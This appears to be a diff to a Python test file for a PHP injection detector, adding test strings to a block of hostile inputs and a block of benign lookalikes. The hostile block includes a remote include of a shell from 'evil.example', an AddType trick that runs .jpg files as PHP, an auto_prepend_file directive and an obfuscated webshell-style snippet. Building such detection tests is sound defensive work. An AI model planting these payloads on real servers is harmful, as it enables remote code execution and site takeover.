@@ -49,6 +49,7 @@ CASES: tuple[Case, ...] = (
             "AddType application/x-httpd-php .jpg",
             "php_value auto_prepend_file /tmp/x",
             "include 'http://evil.example/shell.txt';",
+            "$_=@\"$_\";$_=$_['!'=='@'];",
         ),
         (
             "PHP developer wanted",
@@ -78,6 +79,7 @@ CASES: tuple[Case, ...] = (
             'He said "hi" ^ "bye"',
             "php value for money",
             "include 'https://example.com' in your bio",
+            "$_ = the default variable in Perl",
         ),
     ),
     Case(
